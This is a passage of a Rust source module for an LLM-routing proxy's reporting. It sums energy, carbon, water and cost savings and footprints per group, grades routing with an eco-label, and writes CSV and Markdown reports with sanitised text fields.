//! Savings reports over ledger rows, pure: aggregation and rendering. `ecoroute report` reads the
//! rows and writes one of the formats.
//!
//! Ranges are summed bound by bound (lows with lows, highs with highs). The model uncertainty
//! behind them is systematic (the same parameter estimates for every call of a model), so errors
//! do not cancel across requests and the summed low is the honest conservative total.
//!
//! The JSON format is a stable contract: fields are only ever added.

pub(crate) mod html;

use std::collections::{BTreeMap, BTreeSet};

use serde::Serialize;

use crate::energy::{Impacts, Range, METHOD_VERSION};
use crate::ledger::{LedgerRecord, Served, StoredSettings};

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum GroupBy {
    Day,
    Week,
    Month,
    Tenant,
    Route,
    Model,
}

impl GroupBy {
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            GroupBy::Day => "day",
            GroupBy::Week => "week",
            GroupBy::Month => "month",
            GroupBy::Tenant => "tenant",
            GroupBy::Route => "route",
            GroupBy::Model => "model",
        }
    }

    fn key(self, r: &LedgerRecord) -> String {
        let days = r.ts_ms.div_euclid(86_400_000);
        match self {
            GroupBy::Day => civil(days),
            // Weeks start on Monday; 1970-01-01 was a Thursday.
            GroupBy::Week => civil(days - (days + 3).rem_euclid(7)),
            GroupBy::Month => civil(days)[..7].to_string(),
            GroupBy::Tenant => r.tenant.clone().unwrap_or_else(|| "(none)".into()),
            // Downgrades are LLM answers, shown as their own row with their own saving.
            GroupBy::Route if r.requested_model.is_some() => "downgraded".to_string(),
            GroupBy::Route if r.tier_review_of.is_some() => "tier_review".to_string(),
            GroupBy::Route => r.served().as_str().to_string(),
            GroupBy::Model => r.model.clone().unwrap_or_else(|| "(none)".into()),
        }
    }
}

/// `YYYY-MM-DD` of a day count since 1970-01-01 (Howard Hinnant's civil_from_days).
pub(crate) fn civil(days: i64) -> String {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!("{y:04}-{m:02}-{d:02}")
}

/// Days since 1970-01-01 of a `YYYY-MM-DD` date.
pub(crate) fn days_from_civil(date: &str) -> Option<i64> {
    let mut parts = date.split('-');
    let (y, m, d): (i64, i64, i64) = (
        parts.next()?.parse().ok()?,
        parts.next()?.parse().ok()?,
        parts.next()?.parse().ok()?,
    );
    if parts.next().is_some() || !(1..=12).contains(&m) || !(1..=31).contains(&d) {
        return None;
    }
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y.rem_euclid(400);
    let mp = if m > 2 { m - 3 } else { m + 9 };
    let doy = (153 * mp + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    Some(era * 146_097 + doe - 719_468)
}

#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub(crate) struct ByRoute {
    pub search: u64,
    pub llm: u64,
    pub escalated: u64,
    pub passthrough: u64,
    /// Answered from the response cache.
    pub cache: u64,
    /// Of `llm` and `escalated`: served by a cheaper model than the one asked for (a model tier).
    pub downgraded: u64,
}

impl ByRoute {
    /// Chat requests: answered from search or the cache, or by the LLM.
    pub(crate) fn chat(&self) -> u64 {
        self.search + self.cache + self.llm + self.escalated
    }
}

#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub(crate) struct Totals {
    pub requests: u64,
    pub by_route: ByRoute,
    /// Share of chat requests answered without the LLM: (search + cache) / chat requests.
    pub llm_avoided_share: f64,
    pub energy_saved_wh: Range,
    pub co2e_saved_g: Range,
    pub water_saved_ml: Range,
    pub cost_saved_usd: Range,
    pub energy_actual_wh: Range,
    pub energy_counterfactual_wh: Range,
    /// Requests whose model was not in the catalogue (figures use the stated default).
    pub unknown_model_requests: u64,
    /// The part of `energy_saved_wh` that rests on the stated default for unknown models: a
    /// manager can see how much of the claim depends on it.
    pub energy_saved_on_default_model_wh: Range,
    /// Search answers whose avoided answer length came from this ledger's LLM answers to lookups,
    /// and those that used the stated prior.
    pub avoided_length_from_history: u64,
    pub avoided_length_from_prior: u64,
    /// Rows written before the ledger carried figures (schema v1).
    pub rows_without_figures: u64,
    /// Shadow-mode traffic, apart: what routing would have done. Not part of the savings above.
    pub shadow: ShadowTotals,
    /// Model tiers in shadow mode, apart: what the cheaper models would have saved.
    pub tier_shadow: TierShadowTotals,
    /// Requests a model tier served with a cheaper model, apart from search: their part of the
    /// savings above, and what the difficulty router promised at the thresholds used.
    pub tiers: TierTotals,
    /// Actual energy of the chat requests alone (search, LLM, escalated): pass-through calls such
    /// as `GET /v1/models` cost almost nothing and would dilute a per-request figure.
    pub energy_actual_chat_wh: Range,
    /// Central actual energy per chat request, Wh.
    pub energy_per_chat_request_wh: f64,
    /// [`eco_label`] of `avoided_energy_share`; "-" without chat requests other than repeats.
    pub eco_label: String,
    /// What routing did, by the same method on both sides: the central energy saved over the
    /// reference scenario's LLM energy, on chat requests other than cache repeats (which a retry
    /// loop or a test script would mint). Model choice does not enter it.
    pub avoided_energy_share: f64,
    #[serde(skip)]
    label_saved_wh: f64,
    #[serde(skip)]
    label_reference_wh: f64,
    /// The part of the saving booked on repeats answered from the cache: against the reference
    /// scenario they avoided a call, but a retry loop is not a merit, so it is shown apart.
    pub energy_saved_on_repeats_wh: Range,
    /// The actual footprint, side by side with what was avoided and never netted with it: CO2e
    /// with the embodied emissions of hardware included, and the embodied part alone.
    pub co2e_actual_g: Range,
    pub co2e_embodied_actual_g: Range,
    pub water_actual_ml: Range,
    /// Spend on the LLM calls that happened, at catalogue prices (unpriced models count $0 here
    /// and are counted in `unpriced_requests`).
    pub cost_actual_usd: Range,
    /// Software Carbon Intensity per chat request (R = one chat request): actual CO2e of the chat
    /// requests, embodied included, over their number. Avoided emissions never lower it.
    pub sci_gco2e_per_request: Range,
    /// Actual CO2e of the chat requests alone (the SCI's numerator).
    pub co2e_actual_chat_g: Range,
    /// LLM calls whose GPU energy was measured (metered self-hosted GPUs), and their energy.
    pub measured_requests: u64,
    pub energy_actual_measured_wh: Range,
    /// The GPU energy the meters read for those calls, at the boards (before PUE; idle draw of
    /// the intervals before them included): what `energy_actual_measured_wh` rests on.
    pub measured_gpu_wh: f64,
    /// Requests whose model has no price: their spend is unknown, not $0.
    pub unpriced_requests: u64,
    /// The settings hashes this group's rows were computed under, and rows that name none
    /// (written before ecoroute recorded them).
    pub settings_hashes: BTreeSet<String>,
    pub rows_without_settings: u64,
    /// Requests priced by the catalogue entry of another spelling of their model (a family match,
    /// e.g. `mistral-small` → `mistral-small-latest`), and the energy saved that rests on it.
    pub substituted_model_requests: u64,
    pub energy_saved_on_substituted_model_wh: Range,
    /// Every model name that did not find its entry by name or alias, as "requested → entry
    /// (how)", how being `undated`, `family` or `default`: a substitution is never silent.
    pub model_resolutions: BTreeSet<String>,
}

/// The routing grade's scale: the share of the reference scenario's LLM energy that routing
/// avoided, net of its own cost. A grade of energy per request (the energy audit's M2) graded the
/// model a team chose, moved with cheap repeats, and held EcoLogits' figures against Epoch AI's
/// anchor, another method; this one compares EcoLogits (or the meter) with itself.
const LABEL_THRESHOLDS_SHARE: [(char, f64); 4] = [('A', 0.4), ('B', 0.2), ('C', 0.1), ('D', 0.0)];

/// What the grade means, for every format that shows it.
pub(crate) const LABEL_SOURCE: &str = "routing grade: the share of the reference scenario's LLM energy that routing avoided, net of ecoroute's own cost, on chat requests other than cache repeats, by the same method on both sides (central estimates): A at 40% or more, B 20%, C 10%, D above 0, E none. It grades what ecoroute did, not the model chosen (compare models with Hugging Face's AI Energy Score, per task and size class)";

pub(crate) fn eco_label(avoided_share: f64) -> char {
    LABEL_THRESHOLDS_SHARE
        .iter()
        // D asks for more than nothing; the others for at least their floor.
        .find(|(_, floor)| avoided_share >= *floor && avoided_share > 0.0)
        .map_or('E', |(label, _)| *label)
}

#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub(crate) struct TierTotals {
    /// Requests served by a cheaper model than the one asked for.
    pub requests: u64,
    /// Of those, the ones the difficulty router let through (`max_difficulty`).
    pub by_difficulty: u64,
    /// Their part of the savings: the requested model's call avoided less the cheaper one's, at
    /// the real answer length.
    pub energy_saved_wh: Range,
    pub co2e_saved_g: Range,
    pub water_saved_ml: Range,
    pub cost_saved_usd: Range,
    /// For each `max_difficulty` in the rows (route or shadow), the quality the router kept there
    /// on held-out benchmark sets, as measured when it was trained: a promise about benchmarks,
    /// not about this traffic.
    pub router_promises: BTreeSet<String>,
}

/// What the shipped difficulty router kept at a threshold, said for a report.
fn router_promise(max_difficulty: f64) -> String {
    let promise = crate::classify::difficulty::DifficultyModel::builtin().and_then(|m| m.promise_at(max_difficulty));
    match promise {
        Some(p) => format!(
            "max_difficulty {max_difficulty}: on held-out benchmark sets (RouteLLM MMLU subjects not trained on, GSM8K, MT-Bench; GPT-4 against Mixtral-8x7B) the router kept at least {:.1}% of the strong model's quality, with {:.0}% of the worst set's requests on the cheaper model; not measured on this traffic",
            p.quality * 100.0,
            p.cheap_share * 100.0
        ),
        None => format!("max_difficulty {max_difficulty}: above every threshold the router was measured at; no quality promise"),
    }
}

#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub(crate) struct TierShadowTotals {
    /// Requests a tier in shadow mode would have sent to a cheaper model.
    pub requests: u64,
    pub would_save_energy_wh: Range,
    pub would_save_co2e_g: Range,
    pub would_save_cost_usd: Range,
    /// Review calls to the cheaper model (`review_sample`) and what they cost: counted in the
    /// footprint above and as a loss in the savings, since they would not have happened.
    pub reviews: u64,
    pub review_energy_wh: Range,
    pub review_cost_usd: Range,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub(crate) struct ShadowTotals {
    pub requests: u64,
    /// Shadow requests that search would have answered.
    pub would_answer_from_search: u64,
    pub would_save_energy_wh: Range,
    pub would_save_co2e_g: Range,
    pub would_save_water_ml: Range,
    pub would_save_cost_usd: Range,
}

impl Totals {
    fn add(&mut self, r: &LedgerRecord) {
        self.requests += 1;
        match r.served() {
            Served::Search => self.by_route.search += 1,
            Served::Cache => self.by_route.cache += 1,
            Served::Escalated => self.by_route.escalated += 1,
            Served::Llm => self.by_route.llm += 1,
            // Requests refused before routing spent no model either way.
            Served::Passthrough | Served::Unrouted => self.by_route.passthrough += 1,
        }
        match &r.accounting {
            Some(a) => {
                let saved: Impacts = a.costs.saved;
                self.energy_saved_wh = self.energy_saved_wh + saved.energy_wh;
                self.co2e_saved_g = self.co2e_saved_g + saved.co2e_g;
                self.water_saved_ml = self.water_saved_ml + saved.water_ml;
                self.cost_saved_usd = self.cost_saved_usd + saved.cost_usd;
                self.energy_actual_wh = self.energy_actual_wh + a.costs.actual.energy_wh;
                self.energy_counterfactual_wh = self.energy_counterfactual_wh + a.costs.counterfactual.energy_wh;
                self.unknown_model_requests += u64::from(a.costs.model_fallback);
                if a.costs.model_fallback {
                    self.energy_saved_on_default_model_wh = self.energy_saved_on_default_model_wh + saved.energy_wh;
                }
                if r.served() == Served::Search {
                    if a.tokens_from_history {
                        self.avoided_length_from_history += 1;
                    } else {
                        self.avoided_length_from_prior += 1;
                    }
                }
                if matches!(
                    r.served(),
                    Served::Search | Served::Cache | Served::Escalated | Served::Llm
                ) {
                    self.energy_actual_chat_wh = self.energy_actual_chat_wh + a.costs.actual.energy_wh;
                    self.co2e_actual_chat_g = self.co2e_actual_chat_g + a.costs.actual.co2e_g;
                }
                if r.served() == Served::Cache {
                    self.energy_saved_on_repeats_wh = self.energy_saved_on_repeats_wh + saved.energy_wh;
                } else if matches!(r.served(), Served::Search | Served::Escalated | Served::Llm) {
                    self.label_saved_wh += saved.energy_wh.central;
                    self.label_reference_wh += a.costs.counterfactual.energy_wh.central;
                }
                let actual = a.costs.actual;
                self.co2e_actual_g = self.co2e_actual_g + actual.co2e_g;
                self.co2e_embodied_actual_g = self.co2e_embodied_actual_g + a.costs.actual_embodied_g;
                self.water_actual_ml = self.water_actual_ml + actual.water_ml;
                self.cost_actual_usd = self.cost_actual_usd + actual.cost_usd;
                if a.costs.measured {
                    self.measured_requests += 1;
                    self.energy_actual_measured_wh = self.energy_actual_measured_wh + actual.energy_wh;
                    self.measured_gpu_wh += r.measured_gpu_wh.unwrap_or(0.0);
                }
                self.unpriced_requests += u64::from(a.costs.unpriced);
            }
            None => self.rows_without_figures += 1,
        }
        if let (Some(entry), Some(how)) = (&r.model_entry, &r.model_match) {
            if how != "exact" {
                let requested = r.model.as_deref().unwrap_or("(none)");
                self.model_resolutions.insert(format!("{requested} → {entry} ({how})"));
            }
            if how == "family" {
                self.substituted_model_requests += 1;
                if let Some(a) = &r.accounting {
                    self.energy_saved_on_substituted_model_wh =
                        self.energy_saved_on_substituted_model_wh + a.costs.saved.energy_wh;
                }
            }
        }
        match &r.settings_hash {
            Some(hash) => {
                if !self.settings_hashes.contains(hash) {
                    self.settings_hashes.insert(hash.clone());
                }
            }
            None => self.rows_without_settings += 1,
        }
        if r.requested_model.is_some() {
            self.by_route.downgraded += 1;
            let t = &mut self.tiers;
            t.requests += 1;
            if let Some(a) = &r.accounting {
                let saved = a.costs.saved;
                t.energy_saved_wh = t.energy_saved_wh + saved.energy_wh;
                t.co2e_saved_g = t.co2e_saved_g + saved.co2e_g;
                t.water_saved_ml = t.water_saved_ml + saved.water_ml;
                t.cost_saved_usd = t.cost_saved_usd + saved.cost_usd;
            }
        }
        // The tier's reason names the router's threshold when the router chose (route or shadow).
        if let Some(max) = r
            .reason
            .find("; tier")
            .and_then(|at| crate::classify::difficulty::threshold_in(&r.reason[at..]))
        {
            if r.requested_model.is_some() {
                self.tiers.by_difficulty += 1;
            }
            self.tiers.router_promises.insert(router_promise(max));
        }
        if let (Some(_), Some(a)) = (&r.tier_review_of, &r.accounting) {
            let t = &mut self.tier_shadow;
            t.reviews += 1;
            t.review_energy_wh = t.review_energy_wh + a.costs.actual.energy_wh;
            t.review_cost_usd = t.review_cost_usd + a.costs.actual.cost_usd;
        }
        if let Some(would) = r.accounting.and_then(|a| a.tier_shadow_saved) {
            let t = &mut self.tier_shadow;
            t.requests += 1;
            t.would_save_energy_wh = t.would_save_energy_wh + would.energy_wh;
            t.would_save_co2e_g = t.would_save_co2e_g + would.co2e_g;
            t.would_save_cost_usd = t.would_save_cost_usd + would.cost_usd;
        }
        if r.mode == crate::classify::Mode::Shadow {
            let s = &mut self.shadow;
            s.requests += 1;
            if r.shadow_route == Some(crate::classify::Route::Search) {
                s.would_answer_from_search += 1;
            }
            if let Some(would) = r.accounting.and_then(|a| a.shadow_saved) {
                s.would_save_energy_wh = s.would_save_energy_wh + would.energy_wh;
                s.would_save_co2e_g = s.would_save_co2e_g + would.co2e_g;
                s.would_save_water_ml = s.would_save_water_ml + would.water_ml;
                s.would_save_cost_usd = s.would_save_cost_usd + would.cost_usd;
            }
        }
        let chat = self.by_route.chat();
        self.llm_avoided_share = if chat == 0 {
            0.0
        } else {
            (self.by_route.search + self.by_route.cache) as f64 / chat as f64
        };
        if chat > 0 {
            self.energy_per_chat_request_wh = self.energy_actual_chat_wh.central / chat as f64;
            self.sci_gco2e_per_request = self.co2e_actual_chat_g.scale(1.0 / chat as f64);
        }
        if self.label_reference_wh > 0.0 {
            self.avoided_energy_share = self.label_saved_wh / self.label_reference_wh;
            self.eco_label = eco_label(self.avoided_energy_share).to_string();
        } else {
            self.avoided_energy_share = 0.0;
            self.eco_label = "-".into();
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub(crate) struct Group {
    pub key: String,
    #[serde(flatten)]
    pub totals: Totals,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub(crate) struct Report {
    pub method_version: &'static str,
    /// The ecoroute that wrote the report (the rows' figures were computed when they were written,
    /// under the settings in `settings`).
    pub ecoroute_version: &'static str,
    /// What "avoided" is measured against.
    pub reference_scenario: &'static str,
    /// What the figures cover and leave out.
    pub boundary: &'static str,
    /// Where every factor comes from, so each format can cite them.
    pub sources: &'static [Source],
    pub from: Option<String>,
    pub to: Option<String>,
    pub by: &'static str,
    #[serde(flatten)]
    pub totals: Totals,
    pub groups: Vec<Group>,
    /// The energy settings the report's rows were computed under.
    pub settings: SettingsSummary,
}

/// The settings behind a report: every hash its rows name, the settings each stands for (as the
/// ledger recorded them), and the most recent set's key figures at the top.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub(crate) struct SettingsSummary {
    pub hashes: Vec<String>,
    /// Rows written before ecoroute recorded settings (their figures exclude embodied emissions).
    pub rows_without_settings: u64,
    /// The most recent settings of the report's rows; `None` where the ledger has no record.
    pub zone: Option<String>,
    pub pue: Option<f64>,
    pub watts_per_core: Option<[f64; 2]>,
    pub catalogue_version: Option<String>,
    pub counterfactual_basis: Option<String>,
    pub method_version: Option<String>,
    /// Each recorded set the rows use, oldest first.
    pub each: Vec<StoredSettings>,
}

impl SettingsSummary {
    /// The most recent recorded set the rows use.
    pub(crate) fn latest(&self) -> Option<&crate::energy::EnergySettings> {
        self.each.last().map(|s| &s.settings)
    }
}

impl Report {
    /// Fills in what each of the rows' settings hashes stands for, from the ledger's records.
    pub(crate) fn with_settings(mut self, recorded: &[StoredSettings]) -> Report {
        let s = &mut self.settings;
        s.each = recorded
            .iter()
            .filter(|r| s.hashes.contains(&r.hash))
            .cloned()
            .collect();
        s.each.sort_by_key(|r| r.first_seen_ms);
        if let Some(latest) = s.each.last().map(|r| r.settings.clone()) {
            s.zone = Some(format!("{} ({})", latest.zone, latest.zone_name));
            s.pue = Some(latest.pue);
            s.watts_per_core = Some(latest.watts_per_core);
            s.catalogue_version = Some(latest.catalogue_version);
            s.counterfactual_basis = Some(latest.counterfactual_basis);
            s.method_version = Some(latest.method_version);
        }
        self
    }
}

/// A cited source: what it provides, and where to read it.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub(crate) struct Source {
    pub what: &'static str,
    pub reference: &'static str,
}

pub(crate) const BOUNDARY: &str =
    "Inference only: LLM calls (GPU and server energy over generation time, provider PUE; \
measured GPU energy where a meter is configured), the proxy and the search (measured CPU time). CO2e includes \
the embodied emissions of hardware (EcoLogits' server and GPU manufacturing over a 3-year life; the proxy \
host's share by CPU time). Carbon is location-based (the grid average of the data centre's country), not \
market-based; water is on-site cooling plus the water of electricity generation. Actual and avoided figures \
are reported apart and never netted: an avoided emission does not lower the SCI. The proxy host's baseline \
draw is counted when energy.host_watts is set (see the settings), else only its busy CPU time. Idle GPU energy \
of metered models is in the footprint of the calls after it. Not counted: model training, networks, memory and \
storage beyond the host's draw, end-user devices and the idle capacity of the provider's fleet.";

/// The ecoroute that writes a report.
pub const ECOROUTE_VERSION: &str = concat!("ecoroute ", env!("CARGO_PKG_VERSION"));

/// The reference scenario of every avoided figure (WBCSD's Guidance on Avoided Emissions, 2023,
/// and the GHG Protocol ask for one, stated, with a marginal comparison against it).
pub(crate) const REFERENCE_SCENARIO: &str = "Avoided figures compare with one reference scenario: the same requests, from the same clients, sent straight to the model each names, with no search, cache or model tier; an avoided answer as long as that model's answers to lookups in this ledger (or the stated prior). Avoided = the footprint of the calls ecoroute did not make, less ecoroute's own cost (proxy, search, escalations). On GPUs the team provisions and meters, a call not made saves only the marginal energy of its tokens: no idle draw, host or manufacturing share. For API models it is EcoLogits' attributional footprint of a call, embodied share included (a provider's fleet grows with demand), so it is an upper bound at the margin; quote the low end. Repeats answered from the cache are counted as avoided calls (the reference scenario would have sent them) and shown apart. Rebound (more questions because answers are cheap) and re-asks after a wrong search answer are not modelled. Avoided figures are never netted with the actual footprint.";

pub(crate) const SOURCES: [Source; 8] = [
    Source {
        what: "LLM inference energy and water method",
        reference: "EcoLogits 0.11.3, LLM inference methodology: https://ecologits.ai/latest/methodology/llm_inference/",
    },
    Source {
        what: "grid carbon and water intensity per country",
        reference: "ADEME Base Empreinte, via EcoLogits' electricity mixes (config/zones.toml)",
    },
    Source {
        what: "provider data-centre PUE and WUE, model parameters and prices",
        reference: "EcoLogits 0.11.3 provider and model catalogue (config/models.toml)",
    },
    Source {
        what: "public anchor for one LLM query, and the eco-label's scale",
        reference: "Epoch AI, 'How much energy does ChatGPT use?', Feb 2025: about 0.3 Wh per typical GPT-4o query",
    },
    Source {
        what: "public anchor for one LLM prompt",
        reference: "Google, 'Measuring the environmental impact of AI inference', Aug 2025: 0.24 Wh per median Gemini text prompt",
    },
    Source {
        what: "footprint per functional unit",
        reference: "Green Software Foundation, Software Carbon Intensity (ISO/IEC 21031:2024): SCI = (E x I + M) per R, R = one chat request",
    },
    Source {
        what: "embodied emissions of LLM servers and GPUs",
        reference: "EcoLogits 0.11.3 impacts/llm.py: 5,700 kgCO2e per 8-GPU server, 273 kgCO2e per GPU, 3-year life, batch of 64",
    },
    Source {
        what: "the proxy host's embodied emissions per core-hour",
        reference: "energy.embodied_g_per_core_hour (default 1.9 to 3.4 g: EcoLogits' 5,700 kgCO2e server over 3 years and 64 to 112 cores)",
    },
];

/// The report over `rows` (a slice, or any selection of rows by reference).
pub(crate) fn build<'a>(
    rows: impl IntoIterator<Item = &'a LedgerRecord>,
    by: GroupBy,
    from: Option<String>,
    to: Option<String>,
) -> Report {
    let mut totals = Totals::default();
    let mut groups: BTreeMap<String, Totals> = BTreeMap::new();
    for r in rows {
        totals.add(r);
        groups.entry(by.key(r)).or_default().add(r);
    }
    let settings = SettingsSummary {
        hashes: totals.settings_hashes.iter().cloned().collect(),
        rows_without_settings: totals.rows_without_settings,
        ..SettingsSummary::default()
    };
    Report {
        settings,
        method_version: METHOD_VERSION,
        ecoroute_version: ECOROUTE_VERSION,
        reference_scenario: REFERENCE_SCENARIO,
        boundary: BOUNDARY,
        sources: &SOURCES,
        from,
        to,
        by: by.as_str(),
        totals,
        groups: groups.into_iter().map(|(key, totals)| Group { key, totals }).collect(),
    }
}

/// Every figure with its low, central and high, saved and actual side by side; the total row
/// also carries the method and the sources, which apply to every row.
const CSV_HEADER: &str = "group,requests,search,llm,escalated,passthrough,cache,llm_avoided_share,\
energy_saved_wh_low,energy_saved_wh_central,energy_saved_wh_high,co2e_saved_g_low,co2e_saved_g_central,co2e_saved_g_high,\
water_saved_ml_low,water_saved_ml_central,water_saved_ml_high,cost_saved_usd_low,cost_saved_usd_central,cost_saved_usd_high,\
energy_per_chat_request_wh,eco_label,\
energy_actual_wh_low,energy_actual_wh_central,energy_actual_wh_high,\
co2e_actual_g_low,co2e_actual_g_central,co2e_actual_g_high,\
co2e_embodied_actual_g_low,co2e_embodied_actual_g_central,co2e_embodied_actual_g_high,\
water_actual_ml_low,water_actual_ml_central,water_actual_ml_high,\
sci_gco2e_per_request_low,sci_gco2e_per_request_central,sci_gco2e_per_request_high,\
measured_requests,unknown_model_requests,unpriced_requests,settings_hashes,method_version,sources,ecoroute_version,\
avoided_energy_share,cost_actual_usd_low,cost_actual_usd_central,cost_actual_usd_high,\
energy_saved_on_repeats_wh_low,energy_saved_on_repeats_wh_central,energy_saved_on_repeats_wh_high";

/// A string a client chose (a tenant, a model) as report text: control characters become spaces,
/// so an ESC or BEL sequence cannot drive the terminal that shows a report, nor a CR or LF break
/// a row (and words a line break parted stay apart).
pub(crate) fn plain_text(s: &str) -> String {
    s.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
}

/// A CSV cell. One that starts like a formula (`=`, `+`, `-`, `@`, tab, CR) gets a leading `'`,
/// so a spreadsheet shows it as text instead of running it (OWASP's advice on CSV injection).
fn csv_field(s: &str) -> String {
    let s = plain_text(s);
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s
    };
    if s.contains([',', '"', '\n']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// A string a client chose as Markdown text: no control characters, HTML's `<`, `>` and `&` as
/// entities (Markdown viewers render raw HTML), and Markdown's own marks escaped so a name cannot
/// make a link, an image or a new table cell.
fn markdown_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in plain_text(s).chars() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '(' | ')' | '|' | '#' | '!' | '~' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

fn csv_line(key: &str, t: &Totals, method_and_sources: Option<(&str, &str)>) -> String {
    let r = |x: Range| format!("{},{},{}", x.low, x.central, x.high);
    let hashes: Vec<&str> = t.settings_hashes.iter().map(String::as_str).collect();
    let (method, sources) = method_and_sources.unwrap_or_default();
    [
        csv_field(key),
        t.requests.to_string(),
        t.by_route.search.to_string(),
        t.by_route.llm.to_string(),
        t.by_route.escalated.to_string(),
        t.by_route.passthrough.to_string(),
        t.by_route.cache.to_string(),
        t.llm_avoided_share.to_string(),
        r(t.energy_saved_wh),
        r(t.co2e_saved_g),
        r(t.water_saved_ml),
        r(t.cost_saved_usd),
        t.energy_per_chat_request_wh.to_string(),
        t.eco_label.clone(),
        r(t.energy_actual_wh),
        r(t.co2e_actual_g),
        r(t.co2e_embodied_actual_g),
        r(t.water_actual_ml),
        r(t.sci_gco2e_per_request),
        t.measured_requests.to_string(),
        t.unknown_model_requests.to_string(),
        t.unpriced_requests.to_string(),
        csv_field(&hashes.join(" ")),
        csv_field(method),
        csv_field(sources),
        // Like the method, the version that wrote the report is on the total row only.
        if method.is_empty() {
            String::new()
        } else {
            ECOROUTE_VERSION.to_string()
        },
        // Columns are only ever added at the end, so a reader by position keeps working.
        t.avoided_energy_share.to_string(),
        r(t.cost_actual_usd),
        r(t.energy_saved_on_repeats_wh),
    ]
    .join(",")
}

pub(crate) fn to_csv(report: &Report) -> String {
    let mut out = String::from(CSV_HEADER);
    out.push('\n');
    for g in &report.groups {
        out.push_str(&csv_line(&g.key, &g.totals, None));
        out.push('\n');
    }
    let sources: Vec<String> = report
        .sources
        .iter()
        .map(|s| format!("{}: {}", s.what, s.reference))
        .collect();
    out.push_str(&csv_line(
        "total",
        &report.totals,
        Some((report.method_version, &sources.join(" | "))),
    ));
    out.push('\n');
    out
}

/// The unit a magnitude reads best in, and what to divide by: 0.00005 Wh is "50 µWh", not
/// "5.000e-5 Wh"; 2,400 g is "2.4 kg".
fn unit_for(magnitude: f64, unit: &str) -> (f64, String) {
    let steps: &[(f64, &str)] = match unit {
        "Wh" => &[(1e3, "kWh"), (1.0, "Wh"), (1e-3, "mWh"), (1e-6, "µWh")],
        "g" => &[(1e3, "kg"), (1.0, "g"), (1e-3, "mg"), (1e-6, "µg")],
        "mL" => &[(1e3, "L"), (1.0, "mL"), (1e-3, "µL")],
        _ => &[],
    };
    steps
        .iter()
        // The largest unit the figure is at least a tenth of: "0.52 Wh", "50 mWh".
        .find(|(scale, _)| magnitude >= *scale * 0.1)
        .or(steps.last())
        .map_or((1.0, unit.to_string()), |(scale, name)| (*scale, (*name).to_string()))
}

/// A number with three significant figures and no exponent: "0.0123", "12.3", "1234".
pub(crate) fn significant(x: f64) -> String {
    let a = x.abs();
    if a == 0.0 || !a.is_finite() {
        return "0".to_string();
    }
    let digits = (2 - a.log10().floor() as i32).clamp(0, 12) as usize;
    let text = format!("{x:.digits$}");
    // "-0.00" is zero.
    if text.trim_start_matches('-').chars().all(|c| c == '0' || c == '.') {
        "0".to_string()
    } else {
        text
    }
}

/// One figure in the unit it reads best in: "0.52 Wh", "48.3 mWh", "$0.0123".
pub(crate) fn figure(x: f64, unit: &str) -> String {
    if unit == "USD" {
        // Below a hundredth of a cent, money is not worth digits.
        if x.abs() < 1e-4 {
            return if x == 0.0 { "$0".into() } else { "≈$0".into() };
        }
        return format!("${}", significant(x)).replace("$-", "−$");
    }
    let (scale, name) = unit_for(x.abs(), unit);
    format!("{} {name}", significant(x / scale))
}

/// A range as a person reads it, in one unit for all three figures: "0.52 Wh (0.41 to 0.68)".
pub(crate) fn human(r: Range, unit: &str) -> String {
    if unit == "USD" {
        return format!(
            "{} ({} to {})",
            figure(r.central, unit),
            figure(r.low, unit),
            figure(r.high, unit)
        );
    }
    let magnitude = r.central.abs().max(r.low.abs()).max(r.high.abs());
    let (scale, name) = unit_for(magnitude, unit);
    format!(
        "{} {name} ({} to {})",
        significant(r.central / scale),
        significant(r.low / scale),
        significant(r.high / scale)
    )
}

/// A spend figure that says what it leaves out: a group whose requests used models without a
/// price spent an unknown amount, not $0 (the energy audit's L3).
pub(crate) fn spend(t: &Totals, r: Range) -> String {
    match t.unpriced_requests {
        0 => human(r, "USD"),
        n if r == Range::default() => format!("unknown ({n} unpriced)"),
        n => format!("{} + unknown for {n} unpriced", human(r, "USD")),
    }
}

pub(crate) fn to_markdown(report: &Report) -> String {
    let t = &report.totals;
    let mut out = String::from("# ecoroute footprint and savings report\n\n");
    let period = match (&report.from, &report.to) {
        (None, None) => "all time".to_string(),
        (f, t) => format!(
            "{} to {}",
            f.as_deref().unwrap_or("start"),
            t.as_deref().unwrap_or("now")
        ),
    };
    out.push_str(&format!(
        "Period: {period}. Method: {}. Written by {}.\n\n",
        report.method_version, report.ecoroute_version
    ));
    out.push_str(&format!(
        "- Requests: {} ({} answered from search, {} from the cache, {} by the LLM, {} escalated, {} pass-through)\n",
        t.requests, t.by_route.search, t.by_route.cache, t.by_route.llm, t.by_route.escalated, t.by_route.passthrough
    ));
    out.push_str(&format!(
        "- LLM calls avoided: {:.1}% of chat requests\n",
        t.llm_avoided_share * 100.0
    ));
    out.push_str("\n## Actual footprint\n\n");
    out.push_str(&format!("- Energy used: {}\n", human(t.energy_actual_wh, "Wh")));
